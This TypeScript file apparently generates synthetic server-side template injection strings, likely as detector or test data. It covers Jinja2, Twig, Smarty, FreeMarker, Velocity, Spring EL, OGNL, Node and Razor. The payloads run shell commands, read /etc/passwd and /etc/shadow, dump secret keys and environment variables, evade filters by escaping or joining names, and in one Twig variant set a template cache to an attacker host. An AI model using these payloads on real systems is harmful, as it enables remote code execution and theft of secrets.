import {
  altered,
  digits,
  family,
  integer,
  letters,
  maybe,
  mostly,
  oneOf,
  repeat,
  same,
  text,
  words,
  type Part,
  type Write
} from '../template.ts';
import { attackerHost, LOWER, lowerWord } from '../vocabulary/shared.ts';
import { command, simpleCommand } from '../vocabulary/systems.ts';

const product = oneOf(
  text`${integer(2, 99)}*${integer(2, 99)}`,
  text`${integer(100, 9999)}*${integer(100, 9999)}`,
  text`${integer(2, 99)}*'${integer(2, 99)}'`,
  '7*7',
  "7*'7'",
  '7 * 7',
  text`${integer(1, 99)}+${integer(1, 99)}`,
  text`${integer(1, 9)}-${integer(1, 9)}`
);
const value = mostly(
  ['', 5],
  [lowerWord, 1],
  [integer(1, 99), 0.7],
  ['}}', 0.3],
  ["'}}", 0.2],
  ['"}}', 0.1],
  [' ', 0.3],
  ['a', 0.2],
  ['*/', 0.05]
);
const run = oneOf(simpleCommand, command);
const quote = oneOf("'", '"');
const subclass = integer(10, 500);
const dunder = (names: string): Write => text`__${words(names)}__`;
/** From any object of the page up to the classes Python knows, by attribute, subscript or filter. */
const anyObject = mostly(
  [oneOf("''", '""', '()', '[]', '{}', '1', 'dict', text`'${lowerWord}'`), 4],
  [
    words('request config self g session lipsum cycler joiner namespace url_for get_flashed_messages range settings'),
    4
  ],
  [text`${words('request self config')}.${words('application args cookies form session _get_data_for_json')}`, 1],
  [lowerWord, 0.5]
);
const towardsBase = oneOf(
  text`${dunder('base')}`,
  text`${dunder('mro')}[${integer(1, 3)}]`,
  text`${dunder('bases')}[${integer(0, 1)}]`,
  text`${dunder('base')}.${dunder('base')}`,
  text`${dunder('mro')}()[-1]`
);
const opened = oneOf(
  text`popen('${run}').read()`,
  text`system("${run}")`,
  text`open('/etc/${words('passwd hosts shadow')}').read()`,
  text`listdir('/')`,
  text`environ`
);
const imported = text`${dunder('import')}(${quote}${words('os subprocess sys')}${quote}).${opened}`;
const fromGlobals = oneOf(
  text`['os'].${opened}`,
  text`.os.${opened}`,
  text`[${quote}${dunder('builtins')}${quote}]${oneOf(text`['eval'](${quote}${imported}${quote})`, text`.${imported}`, text`['open']('/etc/passwd').read()`)}`,
  text`.${dunder('builtins')}.${imported}`,
  text`[${quote}current_app${quote}].config`,
  ''
);
const subclasses = text`.${dunder('class')}.${towardsBase}.${dunder('subclasses')}()`;
const viaSubclass = text`[${subclass}]${oneOf('', text`('${run}',shell=True,stdout=-1)`, text`.${dunder('init')}.${dunder('globals')}${fromGlobals}`, text`('/${words('etc/passwd tmp/x')}'${maybe(",'w'")}).${words('read() readlines()')}`)}`;
/** Names no filter shall see: escaped, joined or taken from other parameters. */
const hiddenName = oneOf(
  altered(dunder('class mro base globals init builtins getitem'), (name) => `'${name.replaceAll('_', '\\x5f')}'`),
  text`["_"*2,"${words('class mro globals init')}","_"*2]|join`,
  text`request.${words('args cookies values headers form')}.${letters(LOWER, 1, 6)}`,
  text`"__"~"${words('class globals init')}"~"__"`,
  text`'_'*2+'${words('class base')}'+'_'*2`,
  text`${quote}${dunder('class globals init mro')}${quote}`
);
const pythonWay = mostly(
  [text`${anyObject}${subclasses}${maybe(viaSubclass)}`, 4],
  [text`${anyObject}.${maybe(text`${dunder('init')}.`)}${dunder('globals')}${fromGlobals}`, 3],
  [text`${anyObject}.${dunder('class')}.${dunder('init')}.${dunder('globals')}${fromGlobals}`, 2],
  [
    text`self._TemplateReference__context.${words('cycler joiner namespace')}.${dunder('init')}.${dunder('globals')}${fromGlobals}`,
    1
  ],
  [text`${anyObject}${repeat(text`|attr(${hiddenName})`, 1, 4)}${maybe(text`(${hiddenName})`)}`, 2],
  [text`${anyObject}.${dunder('class dict doc name module')}${maybe(text`.${dunder('name dict bases')}`)}`, 1],
  [
    oneOf(
      'settings.SECRET_KEY',
      'config.items()',
      'config',
      'self',
      'request.environ',
      'config.SECRET_KEY',
      "config['SECRET_KEY']",
      'messages.storages.0.signer.key',
      'request|pprint'
    ),
    2
  ]
);
const twigWay = oneOf(
  text`_self.env.registerUndefinedFilterCallback(${quote}${words('exec system passthru shell_exec')}${quote})}}{{_self.env.getFilter(${quote}${run}${quote})`,
  text`['${run}']|${words('filter map reduce sort')}('${words('system passthru exec')}')`,
  text`['${run}',1]|sort('system')|join`,
  text`{'${run}':'system'}|map('call_user_func')|join`,
  '_self',
  '_self.env',
  'app.request.server.all|join(",")',
  '_context|join',
  text`"/etc/passwd"|file_excerpt(1,${integer(1, 99)})`,
  'dump(app)',
  'app.request.query.filter(0,0,1024,{"options":"system"})',
  text`_self.env.setCache("ftp://${attackerHost}")}}{{_self.env.loadTemplate("${lowerWord}")`,
  "attribute(_self,'env')",
  text`include("/etc/passwd")`,
  text`source('/etc/passwd')`,
  text`constant('${words('PHP_VERSION DB_PASSWORD SECRET')}')`
);
const javaType = (name: Part): Write => text`T(${name})`;
const runtimeExec = text`${oneOf(javaType('java.lang.Runtime'), text`"".getClass().forName("java.lang.Runtime")`, text`''.class.forName('java.lang.Runtime')`)}.getRuntime().exec(${oneOf(
  text`"${run}"`,
  text`'${simpleCommand}'`,
  text`new String[]{"${words('sh bash cmd')}","-c","${run}"}`,
  altered(integer(2, 6), (count, rng) => {
    const letter = (): string => `T(java.lang.Character).toString(${rng.int(97, 122)})`;
    return letter() + Array.from({ length: Number(count) }, () => `.concat(${letter()})`).join('');
  })
)})`;
const javaRun = oneOf(
  runtimeExec,
  text`${javaType(oneOf('org.apache.commons.io.IOUtils', 'org.springframework.util.StreamUtils'))}.${words('toString copyToString')}(${runtimeExec}.getInputStream())`,
  text`new java.util.Scanner(${runtimeExec}.getInputStream()).next()`,
  text`${javaType('java.lang.System')}.${words('getenv() getProperties() exit(0)')}`,
  text`new java.lang.ProcessBuilder({"${words('bash sh cmd')}","-c","${run}"}).start()`,
  text`"".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec("${run}")`,
  text`''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval("${lowerWord}")`,
  text`${javaType(text`java.lang.${words('Thread System Math Character')}`)}.${words('sleep currentThread exit getProperty random toString')}(${integer(1, 9999)})`
);

export const serverTemplateTemplates = family('other-injection/template', {
  'probe-double-braces': text`${value}{{${maybe(' ')}${product}${maybe(' ')}}}${maybe(lowerWord, 0.1)}`,
  'probe-dollar': text`${value}\${${product}}${maybe(lowerWord, 0.1)}`,
  'probe-hash': text`${value}#{${maybe(' ')}${product}${maybe(' ')}}`,
  'probe-erb': text`${value}<%=${maybe(' ')}${product}${maybe(' ')}%>`,
  'probe-other-marks': text`${value}${oneOf(text`*{${product}}`, text`@(${product})`, text`{${product}}`, text`\${{${product}}}`, text`{{=${product}}}`, text`{{{${product}}}}`, text`[[\${${product}}]]`, text`[(\${${product}})]`, text`~{${product}}`, text`{%= ${product} %}`, text`@{${product}}`, text`$[${product}]`, text`#set($x=${product})$x`, text`%{${product}}`, text`[[${product}]]`, text`{@math key="${integer(1, 9)}" method="multiply" operand="${integer(1, 9)}"/}`, text`<%- ${product} %>`, text`{!${product}}`, text`{{${product}}}[[${product}]]`, text`\${\{${product}\}}`, text`<\${${product}}`, text`{{html "${lowerWord}"}}`)}`,
  'probe-polyglot': text`${maybe(lowerWord)}${repeat(oneOf(text`{{${product}}}`, text`\${${product}}`, text`<%= ${product} %>`, text`#{${product}}`, text`*{${product}}`, '${{<%[%\'"}}%\\', "{{'", '${{', '<%', '/#{@}}%>{{', "'}}"), 2, 5)}`,
  'python-object': text`${value}{{${maybe(' ')}${pythonWay}${maybe(text`|${words('safe e string join tojson list')}`, 0.1)}${maybe(' ')}}}`,
  'python-statement': text`{%${maybe('-')} ${oneOf(
    text`for ${letters(LOWER)} in ${anyObject}${subclasses} %}{% if '${words('warning catch_warnings Popen wrap_close')}' in ${letters(LOWER)}.${dunder('name')} %}{{ ${letters(LOWER)}()._module.${dunder('builtins')}[${quote}${dunder('import')}${quote}]('os').${opened} }}{% endif %}{% endfor`,
    text`if ${pythonWay} %}${lowerWord}{% endif`,
    text`set ${letters(LOWER)}=${pythonWay} %}{{${letters(LOWER)}}}{%`,
    text`with ${letters(LOWER)}=${pythonWay} %}{{${letters(LOWER)}}}{% endwith`,
    text`print(${pythonWay})`,
    text`import os %}{{os.${opened}}}{%`,
    text`include '${oneOf('/etc/passwd', '../../etc/passwd')}'`,
    'debug',
    text`load log %}{% get_admin_log ${integer(1, 99)} as log %}{% for e in log %}{{e}}{% endfor`,
    text`raw %}{{${product}}}{% endraw`
  )} %}`,
  'python-plain': text`\${${oneOf(text`self.module.${words('cache runtime filters')}.util.os.system("${run}")`, text`self.template.module.runtime.util.os.popen('${run}').read()`, text`__import__('os').popen('${run}').read()`, text`self.attr._NSAttr__parent.module.${words('cache runtime')}.util.os.system("${run}")`, text`open('/etc/passwd').read()`)}}`,
  'mako-tornado': oneOf(
    text`<%${'\n'}import os${'\n'}x=os.popen('${run}').read()${'\n'}%>${'$'}{x}`,
    text`{% import os %}{{ os.popen("${run}").read() }}`,
    text`<%! import os %>\${os.system('${run}')}`,
    text`{{handler.settings}}`,
    text`{% module ${lowerWord}("${run}") %}`,
    text`% import os${'\n'}{{os.popen('${run}').read()}}`
  ),
  twig: text`${value}{{${twigWay}}}`,
  smarty: text`${value}${oneOf(text`{php}${words('echo system passthru')}(${quote}${run}${quote});{/php}`, text`{${words('system passthru exec shell_exec phpinfo')}('${run}')}`, '{$smarty.version}', text`{$smarty.template_object->smarty->disableSecurity()->display('string:{system(\\'${simpleCommand}\\')}')}`, text`{if ${words("phpinfo() system('id') passthru('ls')")}}{/if}`, text`{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,"<?php passthru($_GET['${lowerWord}']); ?>",self::clearConfig())}`, text`{math equation='("\\163\\171\\163\\164\\145\\155")("\\167\\150\\157\\141\\155\\151")'}`, text`{fetch file="/etc/passwd"}`, text`{include file='/etc/passwd'}`, text`{literal}alert(${integer(1, 99)}){/literal}`, text`{$smarty.${words('server.HTTP_HOST env.PATH config')}}{${words('system exec')}(${quote}${simpleCommand}${quote})}`)}`,
  freemarker: text`${value}${oneOf(text`<#assign ex="freemarker.template.utility.${words('Execute ObjectConstructor JythonRuntime')}"?new()>\${ex("${run}")}`, text`\${"freemarker.template.utility.Execute"?new()("${run}")}`, text`[#assign ex='freemarker.template.utility.Execute'?new()]\${ex('${run}')}`, text`\${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd').toURL().openStream().readAllBytes()?join(" ")}`, text`<#list .data_model?keys as key>\${key}</#list>`, text`<#include "/etc/passwd">`, text`<#assign classLoader=object?api.class.getClassLoader()>`)}`,
  velocity: text`${value}#set($${letters(LOWER, 1, 4)}=${oneOf(text`"")#set($rt=$x.class.forName('java.lang.Runtime'))#set($chr=$x.class.forName('java.lang.Character'))#set($ex=$rt.getRuntime().exec('${run}'))`, text`$class.inspect("java.lang.Runtime").type.getRuntime().exec("${run}").waitFor())$${letters(LOWER, 1)}`, text`"e");$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("${run}")`, text`${product})$${letters(LOWER, 1)}`)}`,
  'spring-expression': text`${value}${oneOf('${', '#{', '*{', '[[${', '__${', '~{')}${javaRun}${oneOf('}', '}', '}]]', '}__::.x')}`,
  'thymeleaf-fragment': text`__\${${javaRun}}__::${maybe('.x')}${maybe(lowerWord)}`,
  'spring-short-probe': text`${value}${oneOf('${', '#{', '*{', '[[${')}${javaType(text`java.lang.${words('System Math Class Thread Integer String')}`)}.${oneOf('getenv()', text`${words('random abs max parseInt')}(${integer(0, 999)})`, text`getProperty('${words('user.dir os.name java.version user.name')}')`, text`forName('java.lang.${words('Runtime ProcessBuilder System')}')`, text`valueOf(${product})`)}}`,
  ognl: text`${value}%{${oneOf(text`(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)))).(#cmd='${run}')`, text`#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('${lowerWord}',${product})`, text`(#a=@java.lang.Runtime@getRuntime().exec('${run}'))`, text`@java.lang.Runtime@getRuntime().exec("${run}")`, text`#_memberAccess["allowStaticMethodAccess"]=true,@java.lang.Runtime@getRuntime().exec('${run}')`, text`(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec({"sh","-c","${run}"}))`, text`new java.lang.ProcessBuilder(new java.lang.String[]{"${simpleCommand}"}).start()`)}}`,
  'action-parameter': text`${words('redirect action redirectAction')}:${oneOf('${', '%{')}${oneOf(text`#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'${simpleCommand}'})).start()`, text`#matt=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletRequest')`, product, text`@java.lang.Runtime@getRuntime().exec('${simpleCommand}')`)}}`,
  'unified-el': text`${value}${oneOf('${', '#{')}${oneOf(text`"".getClass().forName("java.lang.Runtime").getMethods()[${integer(1, 9)}].invoke("".getClass().forName("java.lang.Runtime")).exec("${run}")`, text`request.getClass().getClassLoader().loadClass("java.lang.Runtime")`, text`facesContext.getExternalContext().${words('setResponseHeader getSession')}("${lowerWord}","${lowerWord}")`, text`applicationScope`, text`pageContext.request.getSession().setAttribute("${lowerWord}","${lowerWord}")`, text`session.getAttribute("${words('user admin auth')}")`, text`class.forName('java.lang.Runtime').getRuntime().exec('${run}')`, text`param.${words('cmd x')}`, text`request.setAttribute("c","".getClass())`, text`header['user-agent'].getClass().forName('java.lang.Runtime')`, text`${words('sessionScope requestScope pageContext applicationScope')}.toString()`)}}`,
  groovy: text`${value}\${${oneOf(text`"${run}".execute().text`, text`new File('/etc/passwd').text`, text`['sh','-c','${run}'].execute()`, text`this.evaluate("${product}")`, text`new groovy.lang.GroovyClassLoader().parseClass("${lowerWord}")`, text`this.class.forName("java.lang.Runtime").getRuntime().exec("${run}")`, text`"calc.exe".execute()`)}}`,
  ruby: text`${value}<%=${maybe(' ')}${oneOf(text`system("${run}")`, text`\`${run}\``, text`IO.popen('${run}').readlines()`, text`File.open('/etc/passwd').read`, text`Dir.entries('/')`, text`require 'open3';Open3.capture2('${run}')`, 'self.methods', 'self.class.instance_variables', "ENV['SECRET_KEY_BASE']", text`%x(${run})`, 'session', text`Kernel.exec('${simpleCommand}')`)}${maybe(' ')}%>`,
  'ruby-interpolation': text`${value}#{${oneOf(text`%x(${run})`, text`system('${run}')`, text`\`${run}\``, text`File.read('/etc/passwd')`, text`Kernel.system("${simpleCommand}")`, 'ENV.inspect')}}`,
  'pug-jade': text`${value}#{${oneOf(text`function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad("child_process").exec('${run}')}()`, text`root.process.mainModule.require('child_process').spawnSync('${simpleCommand}').stdout`, text`global.process.mainModule.require("child_process").execSync("${run}")`)}}`,
  'pug-line': text`${maybe('\n')}- var x = root.process${'\n'}- x = x.mainModule.require${'\n'}- x = x('child_process')${'\n'}= x.exec('${run}')`,
  'node-templates': text`${value}${oneOf(text`{{range.constructor("return global.process.mainModule.require('child_process').execSync('${run}')")()}}`, text`<%= global.process.mainModule.require('child_process').execSync('${run}') %>`, text`{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.push "return require('child_process').exec('${simpleCommand}');"}}{{/with}}{{/with}}{{/with}}`, text`{{"".constructor.constructor("return process")().mainModule.require("child_process").execSync("${run}")}}`, text`{{#each this}}{{@key}}{{/each}}{{lookup (lookup this "constructor") "${words('name prototype')}"}}`, text`{{:"pwnd".toString.constructor.call({},"return global.process.mainModule.constructor._load('child_process').execSync('${run}').toString()")()}}`, text`{{this.constructor.constructor("alert(${integer(1, 9)})")()}}`, text`\${require('child_process').execSync('${run}')}`, text`{{cycler.constructor("return process.env")()}}`)}`,
  'vm-escape': text`${value}${oneOf('{{', '${', '<%=')}${oneOf(text`this.constructor.constructor('return process')().mainModule.require('child_process').execSync('${run}')`, text`global.process.mainModule.constructor._load('child_process').exec('${simpleCommand}')`, text`process.binding('spawn_sync')`, text`[].map.constructor("return process.env")()`)}${oneOf('}}', '}', '%>')}`,
  razor: text`${value}@${oneOf(text`(${product})`, text`{System.Diagnostics.Process.Start("${words('cmd.exe powershell calc.exe')}","/c ${simpleCommand}");}`, text`System.Diagnostics.Process.Start("${simpleCommand}")`, text`(System.IO.File.ReadAllText("c:/windows/win.ini"))`, text`{ ${oneOf('var x', 'int a')} = ${product}; }`, text`DateTime.Now.GetType().Assembly`, text`Request.ServerVariables["ALL_HTTP"]`, text`Html.Raw(System.Environment.MachineName)`)}`,
  go: text`${value}{{${oneOf('.', 'printf "%s" "ssti"', text`.System "${run}"`, 'html "ssti"', 'js "ssti"', text`define "T1"}}alert(${integer(1, 99)}){{end}} {{template "T1"`, '.Password', text`call .${words('Exec Shell File ReadFile')} "${simpleCommand}"`, text`.Ctx.Exec "${simpleCommand}"`)}}}`,
  'elixir-perl-tcl': oneOf(
    text`<%= :os.cmd('${run}') %>`,
    text`<%= System.cmd("${simpleCommand}", []) %>`,
    text`<% perl \`${run}\` %>`,
    text`[% PERL %]system("${run}");[% END %]`,
    text`[exec ${run}]`,
    text`@{[system "${run}"]}`,
    text`<!--#exec cmd="${run}"-->\${${product}}`
  ),
  'liquid-jinjava': text`${value}${oneOf(text`{{'a'.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript').eval("new java.lang.String('${lowerWord}')")}}`, text`{{request.getClass()}}`, text`{{'${lowerWord}'.toUpperCase().getClass().getName()}}`, text`{{____int3rpr3t3r____}}`, text`{{ "a".getClass().forName("java.lang.Runtime") }}`, text`{{ request.server.environ }}`, text`{%include "../../../etc/passwd"%}`, text`{{'${lowerWord}'.${words('toUpperCase concat charAt repeat')}(${maybe(integer(1, 9))})}}`, text`{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('${run}') }}`, text`{% set cmd = '${simpleCommand}' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime') %}`)}`,
  latex: oneOf(
    text`\\${words('input include lstinputlisting verbatiminput')}{${oneOf('/etc/passwd', '/etc/shadow', text`../../${lowerWord}.php`, text`|${simpleCommand}`)}}`,
    text`\\immediate\\write18{${run}}`,
    text`\\newread\\${lowerWord} \\openin\\${lowerWord}=/etc/passwd \\read\\${lowerWord} to\\line \\text{\\line}`,
    text`\\catcode\`\\$=12 \\input{/etc/${words('passwd shadow hosts')}}`,
    text`\\newwrite\\outfile\\openout\\outfile=${lowerWord}.tex\\write\\outfile{${lowerWord}}\\closeout\\outfile`
  ),
  'loop-or-sleep': oneOf(
    text`{% for i in range(${digits(8)}) %}{% endfor %}`,
    text`{{''.__class__.__mro__[1].__subclasses__()[${subclass}]('sleep ${integer(1, 30)}',shell=True)}}`,
    text`\${T(java.lang.Thread).sleep(${integer(1000, 30_000)})}`,
    text`<%= sleep(${integer(1, 30)}) %>`,
    text`{{"".getClass().forName("java.lang.Thread").sleep(${integer(1000, 30_000)})}}`
  ),
  'file-read': text`${value}${oneOf(text`{{ ${lowerWord}_file("/etc/passwd") }}`, text`{{'/etc/passwd'|file_excerpt(1,${integer(1, 50)})}}`, text`{{${anyObject}.${dunder('globals')}['${dunder('builtins')}'].open('/etc/passwd').read()}}`, text`\${open("/etc/${words('passwd hosts')}").read()}`, text`<%= File.read("/etc/${words('passwd shadow')}") %>`, text`{{ config.from_pyfile('/${lowerWord}.cfg') }}`, text`{{ ${anyObject}${subclasses}[${subclass}]('/${words('etc/passwd tmp/x')}'${maybe(text`,'w'`)}).${oneOf('read()', text`write('${lowerWord}')`)} }}`)}`,
  'settings-loop': text`{% for ${same(
    oneOf('key, value', 'k,v', 'x,y', 'name'),
    (names) =>
      text`${names} in ${oneOf('config', 'self', 'settings', 'request', 'app')}.${oneOf('iteritems()', 'items()', '__dict__', 'environ')} %}${repeat(
        altered(names, (list, rng) => `{{ ${rng.pick(list.split(/, ?/))}${rng.pick(['', '|e', '|safe'])} }}`),
        1,
        2,
        oneOf('=', ': ', '<br>', '</td><td>')
      )}{% endfor %}`
  )}`,
  'joined-names': text`{{${maybe(' ')}${anyObject}${repeat(text`|attr(${hiddenName})`, 1, 3)}${maybe(' ')}}}`,
  'dumped-object': text`${value}{{${maybe(' ')}${oneOf('dump(app)', 'dump()', 'app.request', 'app.user', 'self', '_self', 'config', 'request', 'this', 'app', '$root', '_context', 'settings.SECRET_KEY', 'config.items()', 'request.environ', "config['SECRET_KEY']", 'debug', 'app.session', 'vars', 'env', 'session')}${maybe(oneOf('|join', '|keys', '|safe', '|json_encode', '|e'))}${maybe(' ')}}}`,
  'probe-razor': text`${value}@${oneOf(text`(${product})`, text`(${integer(1, 9)}+${integer(1, 9)})`, text`{${product}}`, text`Html.Raw(${product})`, text`{var x=${product};}`, text`DateTime.Now`, text`(1+${integer(1, 9)})`)}`,
  'smarty-block': text`${value}{${oneOf(text`php}${maybe('echo ')}${oneOf(text`\`${run}\``, text`phpinfo()`, text`system('${run}')`)};{/php`, text`if ${words('phpinfo() system("id")')}}{/if`, text`${words('system exec passthru')}(${quote}${run}${quote})`, '$smarty.version', text`self::getStreamVariable("file:///etc/passwd")`)}}`,
  'spaced-names': text`{{ ${altered(text`${anyObject}${subclasses}`, (written, rng) => written.replaceAll(/__|\./g, (mark) => rng.pick([`${mark} `, ` ${mark}`, mark])))} }}`,
  'assignment-filter': text`{{${lowerWord}|${oneOf("attr('__class__')", "map('system')", "filter('system')", "reduce('system')", 'attr("__init__")|attr("__globals__")', text`join|attr('__mro__')`)}}}`
});
